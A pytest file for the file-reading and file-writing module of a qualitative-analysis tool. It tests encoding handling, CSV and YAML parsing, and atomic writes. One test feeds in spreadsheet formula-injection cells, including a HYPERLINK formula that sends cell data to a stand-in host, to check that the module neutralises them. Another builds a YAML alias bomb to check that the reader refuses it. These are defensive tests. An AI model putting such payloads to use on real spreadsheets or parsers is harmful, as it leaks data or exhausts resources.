import csv
from pathlib import Path

import pandas as pd
import pytest

from thematic import io
from thematic.errors import DataError


def test_read_text_normalises_bom_crlf_nbsp_and_cp1252(tmp_path: Path):
    (tmp_path / "bom.txt").write_bytes("\ufeffI: hello\r\nP1: caf\u00e9\u00a0time\r\n".encode("utf-8"))
    (tmp_path / "win.txt").write_bytes("I: it\x92s fine\r\n".encode("latin-1"))
    assert io.read_text(tmp_path / "bom.txt") == "I: hello\nP1: caf\u00e9 time\n"
    assert io.read_text(tmp_path / "win.txt") == "I: it\u2019s fine\n"


def test_read_text_missing_file_names_it(tmp_path: Path):
    with pytest.raises(DataError, match="nothere.txt: file not found"):
        io.read_text(tmp_path / "nothere.txt")


def test_read_yaml_error_names_line_and_column(tmp_path: Path):
    bad = tmp_path / "codebook.yaml"
    bad.write_text("themes:\n  - id: T1\n    name: [unclosed\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"codebook.yaml: not valid YAML \(line \d+, column \d+"):
        io.read_yaml(bad)


def test_read_csv_checks_columns_and_numbers_lines(tmp_path: Path):
    path = tmp_path / "p.csv"
    path.write_text("participant_id,group\nP1,parent\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"missing column\(s\) \['role'\]"):
        io.read_csv(path, required=("participant_id", "group", "role"))
    assert io.read_csv(path)["_line"].tolist() == [2]


def test_atomic_write_keeps_old_content_when_writing_fails(tmp_path: Path):
    target = tmp_path / "out.csv"
    io.write_text(target, "old\n")
    with pytest.raises(RuntimeError):
        with io.atomic_path(target) as tmp:
            tmp.write_text("half", encoding="utf-8")
            raise RuntimeError("disk full")
    assert target.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_write_csv_round_trips(tmp_path: Path):
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y, z"]})
    io.write_csv(tmp_path / "t.csv", frame)
    assert pd.read_csv(tmp_path / "t.csv").equals(frame)


def test_text_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_as_written(tmp_path: Path):
    cells = ['=HYPERLINK("http://x.test/?"&A1,"open")', "+44 7700 900315?", "- so I said", "@SUM(A1:A3)",
             "'=quoted already", "''@twice", "'plain quote", "-0.25", "1e-3", "", "ordinary"]
    frame = pd.DataFrame({"text": cells, "number": [-1.5] * len(cells)})
    written = io.write_csv(tmp_path / "t.csv", frame).read_text(encoding="utf-8")
    raw = [row[0] for row in csv.reader(written.splitlines()[1:])]
    assert raw == ["'" + cells[0], "'" + cells[1], "'- so I said", "'@SUM(A1:A3)", "''=quoted already",
                   "'''@twice", "'plain quote", "-0.25", "1e-3", "", "ordinary"]
    assert list(io.read_csv(tmp_path / "t.csv")["text"]) == cells
    assert "-1.5" in written and "'-1.5" not in written


def test_project_root_found_from_a_subfolder():
    here = Path(__file__).resolve().parent
    assert (io.project_root(here) / "pyproject.toml").exists()
    assert io.resolve("data-sample", root=here.parent) == here.parent / "data-sample"


def test_write_tree_and_verbatim_reading_keep_bytes(tmp_path):
    io.write_tree(tmp_path / "stage", {"raw/a.txt": b"x\r\ny", "codings/b.csv": b"h\n"})
    assert (tmp_path / "stage" / "raw" / "a.txt").read_bytes() == b"x\r\ny"
    assert io.read_text_verbatim(tmp_path / "stage" / "raw" / "a.txt") == "x\r\ny"
    assert io.read_text(tmp_path / "stage" / "raw" / "a.txt") == "x\ny"
    io.write_bytes(tmp_path / "c.bin", b"\r\n")
    assert (tmp_path / "c.bin").read_bytes() == b"\r\n"


def test_atomic_writes_get_the_usual_file_mode(tmp_path):
    import os
    import stat

    from thematic import io

    mask = os.umask(0o022)
    try:
        written = io.write_text(tmp_path / "out.txt", "x\r\ny\n")
    finally:
        os.umask(mask)
    assert stat.S_IMODE(written.stat().st_mode) == 0o644
    assert written.read_bytes() == b"x\r\ny\n"


@pytest.mark.parametrize("data, expected", [
    ("I: caf\u00e9\n".encode("utf-16"), "I: caf\u00e9\n"),
    ("I: caf\u00e9\n".encode("utf-16-le"), "I: caf\u00e9\n"),
    ("I: caf\u00e9\n".encode("utf-16-be"), "I: caf\u00e9\n"),
    ("I: caf\u00e9\n".encode("utf-32"), "I: caf\u00e9\n"),
    (b"\xef\xbb\xbfI: x\n", "I: x\n"),
    ("I: \u2019\n".encode("utf-8") + "R: \u2019\n".encode("cp1252"), "I: \u2019\nR: \u2019\n"),
])
def test_decode_text_reads_utf16_with_or_without_bom_and_mixed_lines(data, expected):
    assert io.decode_text(data) == expected


def test_read_text_names_nul_bytes_undecodable_bytes_and_folders(tmp_path: Path):
    (tmp_path / "nul.txt").write_bytes(b"a\nb\nc\x00d\n")
    with pytest.raises(DataError, match=r"nul.txt, line 3: NUL bytes"):
        io.read_text(tmp_path / "nul.txt")
    (tmp_path / "bad.txt").write_bytes(b"a\n\x9d\n")
    with pytest.raises(DataError, match=r"bad.txt, line 2: cannot decode as UTF-8 or Windows-1252 \(byte 2\)"):
        io.read_text(tmp_path / "bad.txt")
    with pytest.raises(DataError, match=r"is a folder, not a file"):
        io.read_text(tmp_path)


# --- YAML limits ------------------------------------------------------------------------------------

def test_read_yaml_refuses_deep_nesting_without_recursion_error(tmp_path: Path):
    flow = tmp_path / "flow.yaml"
    flow.write_text("themes: " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    block = tmp_path / "block.yaml"
    block.write_text("themes:\n" + "".join(" " * i + "-\n" for i in range(1, 5000)), encoding="utf-8")
    for path in (flow, block):
        with pytest.raises(DataError, match=rf"\[E806\] .*{path.name}, line \d+: YAML nested more than 50 levels"):
            io.read_yaml(path)


def test_read_yaml_refuses_an_alias_bomb_and_a_recursive_alias(tmp_path: Path):
    bomb = tmp_path / "bomb.yaml"
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 10)]
    bomb.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"\[E807\] .*bomb.yaml, line 6: aliases expand to more than 1,000,000"):
        io.read_yaml(bomb)
    loop = tmp_path / "loop.yaml"
    loop.write_text("rules: &r {a: 1, again: *r}\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"\[E807\] .*loop.yaml, line 1: the alias \*r refers to a value it is part of"):
        io.read_yaml(loop)


def test_read_yaml_keeps_ordinary_anchors_and_limits_size(tmp_path: Path, monkeypatch):
    path = tmp_path / "ok.yaml"
    path.write_text("base: &b {per_group: 2}\nquote_rules: *b\nsizes: [1, 2]\n", encoding="utf-8")
    assert io.read_yaml(path) == {"base": {"per_group": 2}, "quote_rules": {"per_group": 2}, "sizes": [1, 2]}
    monkeypatch.setattr(io, "YAML_MAX_BYTES", 10)
    with pytest.raises(DataError, match=r"\[E808\] .*ok.yaml: 54 bytes, more than the 10 bytes"):
        io.read_yaml(path)


def test_read_yaml_reads_what_the_pure_python_loader_reads(tmp_path: Path):
    import yaml

    from conftest import SAMPLE

    files = sorted(SAMPLE.rglob("*.yaml"))
    assert len(files) >= 3
    for path in files:
        assert io.read_yaml(path) == yaml.safe_load(path.read_text(encoding="utf-8")), path.name
    odd = tmp_path / "odd.yaml"
    odd.write_text("a: &x [1, 'two', 3.5, null, true, 2020-07-01]\nb: *x\nc: |\n  line one\n  ünïcode\n",
                   encoding="utf-8")
    assert io.read_yaml(odd) == yaml.safe_load(odd.read_text(encoding="utf-8"))
